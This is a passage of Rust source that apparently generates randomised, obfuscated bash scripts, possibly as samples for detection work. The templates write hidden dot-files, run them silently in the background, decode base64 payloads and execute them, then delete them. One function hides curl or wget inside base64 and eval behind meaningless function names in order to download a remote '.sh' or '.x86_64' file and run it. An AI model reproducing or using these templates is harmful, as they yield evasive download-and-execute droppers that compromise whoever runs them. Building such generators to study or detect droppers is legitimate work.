            "#!/bin/bash\n{}cat > ./.{file}.sh <<'{end}'\n{inner}{end}\nchmod +x ./.{file}.sh\nnohup bash ./.{file}.sh >/dev/null 2>&1 &\nsleep 1\nrm -f ./.{file}.sh.bak\n",
            opening(dice)
        )
    } else {
        format!(
            "#!/bin/bash\n{}echo '{}' | base64 -d > ./.{file}.sh\nbash ./.{file}.sh\nrm -f ./.{file}.sh\n",
            opening(dice),
            base64(inner.as_bytes())
        )
    }
}

/// Names of functions that say nothing, what they do in `eval`.
fn function_names(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".sh", ".x86_64"]);
    let (before, word) = hidden(dice, &url);
    let (one, two, three) = (salad(dice, 1) + &dice.name(), dice.name(), dice.name());
    let one = format!("_{one}");
    let tool = dice.pick(&["curl -s -o", "wget -q -O"]);
    format!(
        "#!/bin/bash\n{before}{one}() {{ eval \"$(echo '{}' | base64 -d) \\\"\\$1\\\" \\\"\\$2\\\"\"; }}\n{two}() {{ [ -e \"$1\" ] && chmod +x \"$1\" && \"$1\"; }}\n{three}=$(pwd)/.$RANDOM\n{one} \"${three}\" {word}\n{two} \"${three}\"\n",
        base64(tool.as_bytes())
    )
}
